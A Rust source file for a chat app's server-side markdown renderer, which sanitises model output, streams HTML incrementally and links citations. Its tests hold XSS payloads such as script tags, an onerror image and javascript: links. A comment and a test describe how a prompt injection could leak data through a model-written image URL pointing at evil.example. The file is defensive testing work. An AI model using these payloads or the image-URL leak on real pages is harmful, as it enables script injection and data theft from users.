//! Markdown to safe HTML. Model output is data, never markup: raw HTML in a message is shown as
//! text, and the rendered HTML is then cleaned by ammonia as a second line of defence (links keep
//! only http, https and mailto, and open without access to this page).
//! Runs on the server only: the page receives the HTML with each message, and, while an answer
//! streams, what changes in it (`StreamEvent::Html`), so the browser carries neither the parser
//! nor the sanitiser.

use crate::model::{AnswerHtml, Message, MessageStatus, Role, StreamEvent};
use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};
use std::sync::LazyLock;

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::default();
    builder
        .add_tags(["button"])
        // Never an image from model output (see `render_markdown`); the page has its own.
        .rm_tags(["img"])
        .add_generic_attributes(["class"])
        .add_tag_attributes("button", ["type", "data-copy-code"])
        .add_tag_attributes("th", ["style"])
        .add_tag_attributes("td", ["style"])
        .url_schemes(["http", "https", "mailto"].into())
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .filter_style_properties(["text-align"].into());
    builder
});

/// Renders markdown (CommonMark with tables and strikethrough) to HTML that is safe to insert.
/// Fenced code blocks get a header with their language and a copy button.
pub fn render_markdown(source: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut events = Vec::new();
    let mut code: Option<(String, String)> = None; // (language, text) of the open code block
    for event in Parser::new_ext(source, options) {
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match kind {
                    CodeBlockKind::Fenced(info) => {
                        info.split_whitespace().next().unwrap_or("").to_string()
                    }
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((language, String::new()));
            }
            Event::End(TagEnd::CodeBlock) => {
                if let Some((language, text)) = code.take() {
                    events.push(Event::Html(CowStr::from(code_block_html(&language, &text))));
                }
            }
            Event::Text(text) if code.is_some() => {
                if let Some((_, buffer)) = code.as_mut() {
                    buffer.push_str(&text);
                }
            }
            // An image would load a URL the model chose the moment the answer shows: the way a
            // prompt injection sends data out. It becomes a link with its alt text instead.
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => events.push(Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            })),
            Event::End(TagEnd::Image) => events.push(Event::End(TagEnd::Link)),
            // Raw HTML from the model or the person is shown as the text it is.
            Event::Html(html) | Event::InlineHtml(html) => events.push(Event::Text(html)),
            other => events.push(other),
        }
    }
    // A code block still open at the end (tokens still streaming) is shown as it stands.
    if let Some((language, text)) = code.take() {
        events.push(Event::Html(CowStr::from(code_block_html(&language, &text))));
    }
    let mut html = String::with_capacity(source.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    CLEANER.clean(&html).to_string()
}

/// Length in bytes of the part of `source` made of finished top-level blocks, which text
/// appended later cannot change, so a streaming answer renders them once and re-renders only
/// what follows. A block counts as finished when a later top-level block starts after a blank
/// line: without the blank line, a later line may still join it (a table row that has only
/// begun, a paragraph turning into a heading). Link reference definitions are the exception
/// (they act backwards); the whole answer is rendered once more when it is final.
pub fn settled_len(source: &str) -> usize {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut depth = 0usize;
    let mut top_level_starts = Vec::new();
    for (event, range) in Parser::new_ext(source, options).into_offset_iter() {
        let top_level_start = match event {
            Event::Start(_) => {
                depth += 1;
                depth == 1
            }
            Event::End(_) => {
                depth = depth.saturating_sub(1);
                false
            }
            // Top-level leaves that are not containers (a rule, raw HTML) start blocks too.
            Event::Rule | Event::Html(_) => depth == 0,
            _ => false,
        };
        if top_level_start {
            // Blocks begin at a line start, but an offset may point past indentation that
            // belongs to the block (an indented code block).
            let line_start = source[..range.start].rfind('\n').map_or(0, |i| i + 1);
            top_level_starts.push(line_start);
        }
    }
    top_level_starts
        .into_iter()
        .rev()
        .find(|&start| start > 0 && after_blank_line(&source[..start]))
        .unwrap_or(0)
}

/// Whether `before` (text ending at a line start) ends with a blank line.
fn after_blank_line(before: &str) -> bool {
    let Some(previous) = before.strip_suffix('\n') else {
        return false;
    };
    let previous_line = &previous[previous.rfind('\n').map_or(0, |i| i + 1)..];
    previous_line.trim().is_empty()
}

/// What the page must do to show the answer as it stands (see [`IncrementalMarkdown`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MarkdownUpdate {
    /// Nothing changed on screen.
    Unchanged,
    /// Append this HTML to the settled part (if any) and show `live` as the last part.
    Changed {
        append: Option<String>,
        live: Option<String>,
    },
    /// The text was replaced (not extended): show `settled` and `live` from scratch.
    Reset { settled: String, live: String },
}

/// Renders an answer that grows at its end without re-rendering what is already finished: the
/// settled blocks are rendered once and appended (their nodes, and any text the person selected
/// in them, stay), and only the last block is rendered again for each batch of tokens. The
/// page keeps two elements, the settled part and the live part; this struct says what changes.
#[derive(Debug, Clone, Default)]
pub struct IncrementalMarkdown {
    /// The source the settled part was rendered from (a prefix of every later text).
    settled_source: String,
    settled_html: String,
    live_html: String,
}

impl IncrementalMarkdown {
    /// The state for text shown as it stands: while streaming, split into settled and live
    /// parts; once final, all of it settled (the complete render).
    pub fn new(text: &str, streaming: bool) -> IncrementalMarkdown {
        let mut state = IncrementalMarkdown::default();
        state.update(text, streaming);
        state
    }

    pub fn settled_html(&self) -> &str {
        &self.settled_html
    }

    pub fn live_html(&self) -> &str {
        &self.live_html
    }

    /// The HTML on screen: the settled part followed by the live part.
    pub fn html(&self) -> String {
        format!("{}{}", self.settled_html, self.live_html)
    }

    /// Brings the state to `text`, saying what to change on screen.
    pub fn update(&mut self, text: &str, streaming: bool) -> MarkdownUpdate {
        if !streaming {
            // Final: the whole render. Most often it is exactly what is on screen and nothing
            // moves; it differs when a link reference defined late applies to earlier blocks.
            let whole = render_markdown(text);
            let on_screen = whole.len() == self.settled_html.len() + self.live_html.len()
                && whole.starts_with(&self.settled_html)
                && whole.ends_with(&self.live_html);
            if on_screen {
                return MarkdownUpdate::Unchanged;
            }
            self.settled_source = text.to_string();
            self.settled_html = whole;
            self.live_html.clear();
            return MarkdownUpdate::Reset {
                settled: self.settled_html.clone(),
                live: String::new(),
            };
        }
        let reset = !text.starts_with(&self.settled_source);
        if reset {
            self.settled_source.clear();
            self.settled_html.clear();
        }
        let tail = &text[self.settled_source.len()..];
        let newly_settled = settled_len(tail);
        let append = (newly_settled > 0).then(|| {
            let html = render_markdown(&tail[..newly_settled]);
            self.settled_source.push_str(&tail[..newly_settled]);
            self.settled_html.push_str(&html);
            html
        });
        let live = render_markdown(&text[self.settled_source.len()..]);
        let live_changed = live != self.live_html;
        self.live_html = live;
        if reset {
            return MarkdownUpdate::Reset {
                settled: self.settled_html.clone(),
                live: self.live_html.clone(),
            };
        }
        if append.is_none() && !live_changed {
            return MarkdownUpdate::Unchanged;
        }
        MarkdownUpdate::Changed {
            append,
            live: live_changed.then(|| self.live_html.clone()),
        }
    }
}

/// An answer as the page shows it, rendered here for one follower of its event stream: the
/// events that bring the page from one text to the next, citations linked.
#[derive(Debug)]
pub struct AnswerRenderer {
    state: IncrementalMarkdown,
    message: uuid::Uuid,
    cited: u32,
    /// The live part as this follower has it (cited), or None before its first event: the
    /// first replaces what the page shows (which may be an older render, from before a
    /// reconnect).
    shown_live: Option<String>,
}

impl AnswerRenderer {
    pub fn new(message: &Message) -> AnswerRenderer {
        AnswerRenderer::citing(message.id, message.sources.passages.len() as u32)
    }

    /// For the answer `message`, whose citations `[1]`…`[cited]` link to its passages.
    pub fn citing(message: uuid::Uuid, cited: u32) -> AnswerRenderer {
        AnswerRenderer {
            state: IncrementalMarkdown::default(),
            message,
            cited,
            shown_live: None,
        }
    }

    /// The state's two parts, citations linked.
    fn html(&self) -> AnswerHtml {
        AnswerHtml {
            settled: link_citations(self.state.settled_html(), self.message, self.cited),
            live: link_citations(self.state.live_html(), self.message, self.cited),
        }
    }

    /// The event that brings the page to `text` (still streaming), if anything on it changes.
    pub fn update(&mut self, text: &str) -> Option<StreamEvent> {
        let update = self.state.update(text, true);
        let Some(shown_live) = self.shown_live.as_mut() else {
            let html = self.html();
            self.shown_live = Some(html.live.clone());
            return Some(StreamEvent::Html {
                reset: true,
                settled: html.settled,
                live: Some(html.live),
                live_keep: None,
            });
        };
        let (message, cited) = (self.message, self.cited);
        let cite = |html: &str| link_citations(html, message, cited);
        match update {
            MarkdownUpdate::Unchanged => None,
            MarkdownUpdate::Changed { append, live } => {
                let (live, live_keep) = match live {
                    Some(html) => {
                        let live = cite(&html);
                        // Only what differs from the live part shown is sent.
                        let keep = common_prefix(shown_live, &live);
                        let tail = live[keep..].to_string();
                        *shown_live = live;
                        (Some(tail), (keep > 0).then_some(keep))
                    }
                    None => (None, None),
                };
                Some(StreamEvent::Html {
                    reset: false,
                    settled: append.map(|html| cite(&html)).unwrap_or_default(),
                    live,
                    live_keep,
                })
            }
            MarkdownUpdate::Reset { settled, live } => {
                let live = cite(&live);
                *shown_live = live.clone();
                Some(StreamEvent::Html {
                    reset: true,
                    settled: cite(&settled),
                    live: Some(live),
                    live_keep: None,
                })
            }
        }
    }

    /// The final answer's HTML. When the whole render is what the page shows already, it keeps
    /// the same two parts, so nothing on the page moves.
    pub fn finish(&mut self, text: &str) -> AnswerHtml {
        self.state.update(text, false);
        self.html()
    }
}

/// Length in bytes of the longest common prefix of `a` and `b` that ends on a character
/// boundary of both.
fn common_prefix(a: &str, b: &str) -> usize {
    let mut n = a.bytes().zip(b.bytes()).take_while(|(x, y)| x == y).count();
    while !(a.is_char_boundary(n) && b.is_char_boundary(n)) {
        n -= 1;
    }
    n
}

/// Gives an answer its HTML for the page (as it stands, while it streams). The person's own
/// messages are shown as typed, and tool results as text: they get none.
pub fn with_html(mut message: Message) -> Message {
    if message.role == Role::Assistant {
        let mut renderer = AnswerRenderer::new(&message);
        renderer.state =
            IncrementalMarkdown::new(&message.content, message.status == MessageStatus::Streaming);
        message.html = Some(renderer.html());
    }
    message
}

/// Ends with a newline like every block `push_html` writes, so a block renders the same alone
/// as in the whole answer (see `IncrementalMarkdown`).
fn code_block_html(language: &str, text: &str) -> String {
    let language = escape_html(language);
    let label = if language.is_empty() {
        "text".to_string()
    } else {
        language.clone()
    };
    let class = if language.is_empty() {
        String::new()
    } else {
        format!(" class=\"language-{language}\"")
    };
    format!(
        "<div class=\"code-block\"><div class=\"code-header\"><span class=\"code-lang\">{label}</span>\
         <button type=\"button\" class=\"copy-code\" data-copy-code=\"\">Copy</button></div>\
         <pre><code{class}>{}</code></pre></div>\n",
        highlighted_code(&language, text)
    )
}

/// Longest code block that is highlighted; a longer one is shown as plain text (a block is
/// highlighted again for each batch of tokens while it streams).
const MAX_HIGHLIGHTED_BYTES: usize = 64 * 1024;

/// The code as escaped HTML, its tokens wrapped in `<span class="hl-{kind}">` when the fence
/// names a language the highlighter knows (the stylesheet colours the kinds from the theme).
/// The spans reproduce the text exactly, so copying the block copies the code.
fn highlighted_code(language: &str, text: &str) -> String {
    let lang = hl_lite::Lang::from_slug(language).filter(|_| text.len() <= MAX_HIGHLIGHTED_BYTES);
    let Some(lang) = lang else {
        return escape_html(text);
    };
    let mut html = String::with_capacity(text.len() * 2);
    for span in hl_lite::highlight(lang, text) {
        if span.kind == hl_lite::Kind::Plain {
            html.push_str(&escape_html(span.text));
        } else {
            html.push_str("<span class=\"hl-");
            html.push_str(span.kind.class());
            html.push_str("\">");
            html.push_str(&escape_html(span.text));
            html.push_str("</span>");
        }
    }
    html
}

/// Makes the citations `[1]`…`[count]` in sanitised answer HTML links to the passages under the
/// answer (`#cite-{message}-{n}`). Only text is touched: not tags, not code. The links are ours
/// (a UUID and a number), added after sanitising; nothing of the answer becomes markup.
pub fn link_citations(html: &str, message: uuid::Uuid, count: u32) -> String {
    if count == 0 || !html.contains('[') {
        return html.to_string();
    }
    let mut out = String::with_capacity(html.len() + 64);
    let mut rest = html;
    let mut in_code = 0usize;
    while let Some(at) = rest.find(['<', '[']) {
        let (before, from) = rest.split_at(at);
        out.push_str(before);
        if from.starts_with('<') {
            let end = from.find('>').map_or(from.len(), |e| e + 1);
            let tag = &from[..end];
            let name = tag
                .trim_start_matches(['<', '/'])
                .split(|c: char| !c.is_ascii_alphanumeric())
                .next()
                .unwrap_or("");
            if matches!(name, "code" | "pre") {
                if tag.starts_with("</") {
                    in_code = in_code.saturating_sub(1);
                } else {
                    in_code += 1;
                }
            }
            out.push_str(tag);
            rest = &from[end..];
            continue;
        }
        // `[n]` with 1 <= n <= count, outside code.
        let digits: String = from[1..]
            .chars()
            .take_while(|c| c.is_ascii_digit())
            .collect();
        let closes = from[1 + digits.len()..].starts_with(']');
        match digits.parse::<u32>() {
            Ok(n) if closes && in_code == 0 && (1..=count).contains(&n) => {
                out.push_str(&format!(
                    "<a class=\"citation\" href=\"#cite-{message}-{n}\" data-citation=\"{n}\">[{n}]</a>"
                ));
                rest = &from[digits.len() + 2..];
            }
            _ => {
                out.push('[');
                rest = &from[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Escapes the five characters that matter in HTML text and attribute values.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_common_markdown() {
        let html = render_markdown("# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nsome `code` and **bold**");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<li>one</li>"), "{html}");
        assert!(
            html.contains("<table>") && html.contains("<td>1</td>"),
            "{html}"
        );
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
    }

    #[test]
    fn raw_html_is_shown_as_text_never_executed() {
        let html = render_markdown("hi <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n<div onclick=\"x()\">block</div>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<div onclick"), "{html}");
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{html}"
        );
        assert!(
            html.contains("&lt;img src=x onerror=alert(1)&gt;"),
            "{html}"
        );
    }

    #[test]
    fn dangerous_links_lose_their_target() {
        let html = render_markdown(
            "[click](javascript:alert(1)) [ok](https://example.com) ![i](data:text/html,x)",
        );
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(html.contains("href=\"https://example.com\""), "{html}");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
    }

    #[test]
    fn code_blocks_get_language_label_copy_button_and_escaped_text() {
        let html = render_markdown("```rust\nfn main() { println!(\"<b>\"); }\n```\n");
        assert!(
            html.contains("<span class=\"code-lang\">rust</span>"),
            "{html}"
        );
        assert!(html.contains("data-copy-code"), "{html}");
        assert!(html.contains("class=\"language-rust\""), "{html}");
        assert!(
            html.contains("&lt;b&gt;") && !html.contains("<b>"),
            "{html}"
        );
    }

    #[test]
    fn known_languages_are_highlighted_and_the_text_is_kept_exactly() {
        let source = "fn main() {\n    let x = \"<b>\"; // note\n}";
        let html = render_markdown(&format!("```rust\n{source}\n```\n"));
        assert!(
            html.contains("<span class=\"hl-keyword\">fn</span>"),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"hl-string\">&quot;&lt;b&gt;&quot;</span>")
                || html.contains("<span class=\"hl-string\">\"&lt;b&gt;\"</span>"),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"hl-comment\">// note</span>"),
            "{html}"
        );
        // Without the spans, the code is the text as written.
        let code = html.split("<code class=\"language-rust\">").nth(1).unwrap();
        let code = code.split("</code>").next().unwrap();
        assert_eq!(
            strip_tags(code),
            escape_html(&format!("{source}\n")).replace("&quot;", "\"")
        );
        // An unknown language is plain escaped text.
        let plain = render_markdown("```brainfuck\n+[<script>]\n```\n");
        assert!(!plain.contains("hl-"), "{plain}");
        assert!(plain.contains("+[&lt;script&gt;]"), "{plain}");
    }

    #[test]
    fn hostile_code_never_breaks_the_highlighter() {
        // Unterminated strings and comments, lone quotes and multi-byte characters at every
        // place, in every language: the render completes, keeps the text and makes no markup.
        let pieces = [
            "\"",
            "'",
            "`",
            "/*",
            "*/",
            "//",
            "#",
            "<!--",
            "<",
            ">",
            "&",
            "${",
            "}",
            "\\",
            "\n",
            "é",
            "日本",
            "🦀",
            "\u{202E}",
            "r#\"",
            "\"\"\"",
            "<<EOF",
            "0x",
            "1e",
            "@",
            "--",
            "</script>",
        ];
        let languages = [
            "rust",
            "py",
            "js",
            "ts",
            "bash",
            "css",
            "html",
            "json",
            "yaml",
            "toml",
            "md",
            "dockerfile",
        ];
        let mut seed = 7u64;
        for round in 0..400 {
            let mut text = String::new();
            for _ in 0..(round % 40) {
                seed = seed
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                text.push_str(pieces[(seed >> 33) as usize % pieces.len()]);
            }
            let language = languages[round % languages.len()];
            let html = highlighted_code(language, &text);
            assert!(!html.contains("<script"), "{html}");
            assert_eq!(
                strip_tags(&html),
                escape_html(&text),
                "{language}: {text:?}"
            );
        }
    }

    /// The text of highlighted HTML (our spans removed; everything else was escaped).
    fn strip_tags(html: &str) -> String {
        let mut out = String::new();
        let mut in_tag = false;
        for c in html.chars() {
            match c {
                '<' => in_tag = true,
                '>' if in_tag => in_tag = false,
                c if !in_tag => out.push(c),
                _ => {}
            }
        }
        out
    }

    #[test]
    fn language_label_cannot_inject_markup() {
        let html = render_markdown("```\"><script>x</script>\ncode\n```\n");
        assert!(!html.contains("<script"), "{html}");
    }

    #[test]
    fn unterminated_code_block_while_streaming_is_rendered() {
        let html = render_markdown("Here:\n```python\nprint('hi')");
        assert!(
            html.contains("<span class=\"code-lang\">python</span>"),
            "{html}"
        );
        assert!(
            html.contains("<span class=\"hl-string\">'hi'</span>")
                || html.contains("<span class=\"hl-string\">&#39;hi&#39;</span>"),
            "{html}"
        );
    }

    #[test]
    fn remote_images_become_links_and_never_load() {
        let html = render_markdown(
            "Look: ![secret data](https://evil.example/x.png?q=secret \"t\") and <img src=https://evil.example/y.png>",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("href=\"https://evil.example/x.png?q=secret\""),
            "shown as a link: {html}"
        );
        assert!(html.contains(">secret data</a>"), "{html}");
    }
    /// Streams `document` in pieces of `step` characters and checks, after every piece, that
    /// the settled part plus the live part is exactly the render of the text so far.
    fn stream_matches_whole_render(document: &str, step: usize) -> IncrementalMarkdown {
        let chars: Vec<char> = document.chars().collect();
        let mut state = IncrementalMarkdown::default();
        let mut text = String::new();
        for piece in chars.chunks(step) {
            text.extend(piece);
            state.update(&text, true);
            assert_eq!(state.html(), render_markdown(&text), "after {:?}", text);
        }
        state
    }

    const DOCUMENTS: &[&str] = &[
        "# Title\n\nA paragraph with **bold** and `code`.\n\n- one\n- two\n  continued\n\n  loose\n- three\n\nAfter the list.\n",
        "Intro\n```rust\nfn main() {\n\n    println!(\"hi\");\n}\n```\nAfter code\n\n    indented code\n\n    more of it\nback\n",
        "para\n---\n\npara two\n===\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\n> quote\nlazy line\n\n> > nested\n\n1. first\n2. second\n\n***\n\ndone ~~struck~~\n",
        "<div>\nraw html block\n</div>\n\ntext <b>inline</b>\n\n[link](https://example.com) and ![img](https://x.example/a.png)\n",
        "Árvíztűrő 🦀 tükörfúrógép\n\n- 日本語\n- ✓ done\n\n```\nunterminated fence with é",
        "\n\n\nleading blank lines\n\n\n\ntrailing blank lines\n\n\n",
        "1. a\n\n   still a\n2. b\n\n- other list\n* switched marker\n\nend",
    ];

    #[test]
    fn streaming_render_equals_whole_render_at_every_step() {
        for document in DOCUMENTS {
            for step in [1, 2, 3, 7, 40] {
                stream_matches_whole_render(document, step);
            }
        }
    }

    #[test]
    fn finished_blocks_are_rendered_once_and_only_the_last_block_again() {
        let mut state = IncrementalMarkdown::default();
        state.update("First paragraph.\n\nSecond", true);
        assert_eq!(state.settled_html(), "<p>First paragraph.</p>\n");
        assert_eq!(state.live_html(), "<p>Second</p>\n");
        // More text for the last block: nothing is appended, only the live part changes.
        assert_eq!(
            state.update("First paragraph.\n\nSecond one", true),
            MarkdownUpdate::Changed {
                append: None,
                live: Some("<p>Second one</p>\n".into())
            }
        );
        // A new block begins: the finished one is appended, the new one is live.
        assert_eq!(
            state.update("First paragraph.\n\nSecond one.\n\n- item", true),
            MarkdownUpdate::Changed {
                append: Some("<p>Second one.</p>\n".into()),
                live: Some("<ul>\n<li>item</li>\n</ul>\n".into())
            }
        );
        // Same text again: nothing to do.
        assert_eq!(
            state.update("First paragraph.\n\nSecond one.\n\n- item", true),
            MarkdownUpdate::Unchanged
        );
        // Final, and the whole render is what is on screen: nothing moves.
        assert_eq!(
            state.update("First paragraph.\n\nSecond one.\n\n- item", false),
            MarkdownUpdate::Unchanged
        );
    }

    #[test]
    fn replaced_text_resets_and_a_late_link_reference_is_settled_when_final() {
        let mut state = stream_matches_whole_render("See [the docs].\n\nMore", 5);
        assert!(matches!(
            state.update("Something else", true),
            MarkdownUpdate::Reset { .. }
        ));
        assert_eq!(state.html(), render_markdown("Something else"));
        // A reference defined after its use: while streaming the use is plain text.
        let final_text = "See [the docs].\n\nMore text.\n\n[the docs]: https://example.com\n";
        let mut state = IncrementalMarkdown::default();
        for end in 1..=final_text.len() {
            state.update(&final_text[..end], true);
        }
        assert!(!state.html().contains("href"), "{}", state.html());
        let update = state.update(final_text, false);
        assert!(matches!(update, MarkdownUpdate::Reset { .. }), "{update:?}");
        assert!(
            state.html().contains("href=\"https://example.com\""),
            "{}",
            state.html()
        );
        assert_eq!(state.html(), render_markdown(final_text));
    }

    #[test]
    fn a_final_answer_starts_settled_and_a_streaming_one_split() {
        let final_state = IncrementalMarkdown::new("a\n\nb", false);
        assert_eq!(final_state.settled_html(), "<p>a</p>\n<p>b</p>\n");
        assert_eq!(final_state.live_html(), "");
        let streaming = IncrementalMarkdown::new("a\n\nb", true);
        assert_eq!(streaming.settled_html(), "<p>a</p>\n");
        assert_eq!(streaming.live_html(), "<p>b</p>\n");
    }

    #[test]
    fn citations_become_links_to_their_passages_outside_code() {
        let id = uuid::Uuid::nil();
        let html = render_markdown(
            "Paid holiday is 25 days [1], carried over [2][3]. See `[1]` and [9].\n\n```\n[1]\n```",
        );
        let linked = link_citations(&html, id, 2);
        let link = |n: u32| {
            format!("<a class=\"citation\" href=\"#cite-{id}-{n}\" data-citation=\"{n}\">[{n}]</a>")
        };
        assert!(linked.contains(&format!("25 days {}", link(1))), "{linked}");
        assert!(linked.contains(&format!("{}[3]", link(2))), "{linked}");
        assert!(linked.contains("<code>[1]</code>"), "{linked}");
        assert!(linked.contains("[9]"), "{linked}");
        assert_eq!(linked.matches("class=\"citation\"").count(), 2, "{linked}");
        assert_eq!(link_citations(&html, id, 0), html);
    }

    #[test]
    fn a_page_applying_the_events_shows_the_render_of_the_text_so_far() {
        let id = uuid::Uuid::nil();
        for document in DOCUMENTS
            .iter()
            .chain(&["Cited [1], not [2].\n\nAgain [1]\n\n`[1]`"])
        {
            for step in [1, 3, 40] {
                let chars: Vec<char> = document.chars().collect();
                let mut renderer = AnswerRenderer::citing(id, 1);
                // An older render on the page (from before a reconnect) is replaced.
                let mut page = AnswerHtml {
                    settled: "<p>stale</p>".into(),
                    live: "<p>old</p>".into(),
                };
                let mut text = String::new();
                for piece in chars.chunks(step) {
                    text.extend(piece);
                    if let Some(event) = renderer.update(&text) {
                        assert!(page.apply(&event), "fits what the page shows");
                    }
                    assert_eq!(
                        format!("{}{}", page.settled, page.live),
                        link_citations(&render_markdown(&text), id, 1),
                        "after {text:?}"
                    );
                }
                let last = page.clone();
                let done = renderer.finish(&text);
                assert_eq!(
                    format!("{}{}", done.settled, done.live),
                    link_citations(&render_markdown(&text), id, 1)
                );
                if done.live.is_empty() {
                    // A late change (a link reference): everything settled.
                    assert_eq!(done.settled, link_citations(&render_markdown(&text), id, 1));
                } else {
                    assert_eq!(
                        done, last,
                        "when the render is what is shown, nothing moves"
                    );
                }
            }
        }
    }

    #[test]
    fn the_first_event_replaces_the_page_and_unchanged_text_sends_nothing() {
        let mut renderer = AnswerRenderer::citing(uuid::Uuid::nil(), 0);
        assert_eq!(
            renderer.update(""),
            Some(StreamEvent::Html {
                reset: true,
                settled: String::new(),
                live: Some(String::new()),
                live_keep: None,
            })
        );
        assert!(renderer.update("Hello").is_some());
        assert_eq!(renderer.update("Hello"), None);
        assert_eq!(
            renderer.update("Hello.\n\nMore"),
            Some(StreamEvent::Html {
                reset: false,
                settled: "<p>Hello.</p>\n".into(),
                live: Some("More</p>\n".into()),
                live_keep: Some(3),
            })
        );
        // The open block grows at its end: only its new end is sent.
        assert_eq!(
            renderer.update("Hello.\n\nMore text é"),
            Some(StreamEvent::Html {
                reset: false,
                settled: String::new(),
                live: Some(" text é</p>\n".into()),
                live_keep: Some(7),
            })
        );
    }

    #[test]
    fn a_common_prefix_never_splits_a_character() {
        assert_eq!(common_prefix("é", "è"), 0);
        assert_eq!(common_prefix("aé", "aè"), 1);
        assert_eq!(common_prefix("abc", "abd"), 2);
        assert_eq!(common_prefix("abc", "abc"), 3);
        assert_eq!(common_prefix("", "abc"), 0);
        assert_eq!(common_prefix("日本", "日"), 3);
    }

    #[test]
    fn answers_get_html_and_the_persons_messages_do_not() {
        let message = |role: &str, status: &str| -> Message {
            serde_json::from_value(serde_json::json!({
                "id": uuid::Uuid::nil(), "conversation_id": uuid::Uuid::nil(), "role": role,
                "content": "**bold** <script>x()</script>\n\nstill writing", "model": null,
                "status": status, "error": null,
                "created_at": "2026-12-04T00:00:00Z", "updated_at": "2026-12-04T00:00:00Z",
            }))
            .unwrap()
        };
        let streaming = with_html(message("assistant", "streaming")).html.unwrap();
        assert_eq!(
            streaming.settled,
            "<p><strong>bold</strong> &lt;script&gt;x()&lt;/script&gt;</p>\n"
        );
        assert_eq!(streaming.live, "<p>still writing</p>\n");
        let complete = with_html(message("assistant", "complete")).html.unwrap();
        assert_eq!(complete.live, "");
        assert_eq!(
            complete.settled,
            format!("{}{}", streaming.settled, streaming.live)
        );
        assert_eq!(with_html(message("user", "complete")).html, None);
        assert_eq!(with_html(message("tool", "complete")).html, None);
    }
}
